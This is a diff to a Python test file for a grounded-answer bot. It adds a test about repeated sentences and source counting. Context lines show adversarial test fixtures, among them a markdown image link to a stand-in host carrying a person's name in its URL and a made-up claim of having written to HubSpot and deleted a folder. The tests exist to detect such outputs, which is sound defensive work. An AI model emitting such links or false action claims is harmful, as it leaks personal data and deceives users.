@@ -4,6 +4,7 @@ import json
 import re
 from collections.abc import AsyncIterator, Iterator, Sequence
 from contextlib import AsyncExitStack
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -17,6 +18,7 @@ from bot.wiring_models import build_judge, build_model_reader, build_writer
 from corpus.index.embedded import EmbeddedIndex
 from pipeline.answer import answer
 from pipeline.extractive.writer import ExtractiveWriter
+from pipeline.grounding import TWICE
 from pipeline.llm.pseudonymous import Pseudonymous
 from pipeline.llm.view import prompt
 from pipeline.ports import Completion, Deps, Message
@@ -138,6 +140,18 @@ HOSTILE = {
     "write": [claim("J'ai écrit la note dans HubSpot et supprimé le dossier.", 1)],
     "image": [claim("![x](https://mal.example/p.png?q=Benali) Le dossier avance.", 1)],
 }
+
+
+async def test_what_is_only_said_twice_is_not_counted_as_lacking_a_source(
+    deps: Deps, provider: tuple[str, Log]
+) -> None:
+    """The foot of an answer tells how many sentences had no source; a repetition is left out, and has one."""
+    offline = await told(replace(deps, writer=deps.fallback))
+    lines = [line.removeprefix("- ") for line in offline.text.splitlines() if "[1]" in line]
+    provider[1].writes = "\n\n".join([*lines, lines[-1]])
+    found = await told(deps)
+    assert TWICE in {reason for _, reason in found.dropped}
+    assert found.sentences_dropped == 0
 
 
 @pytest.mark.parametrize("way", HOSTILE)
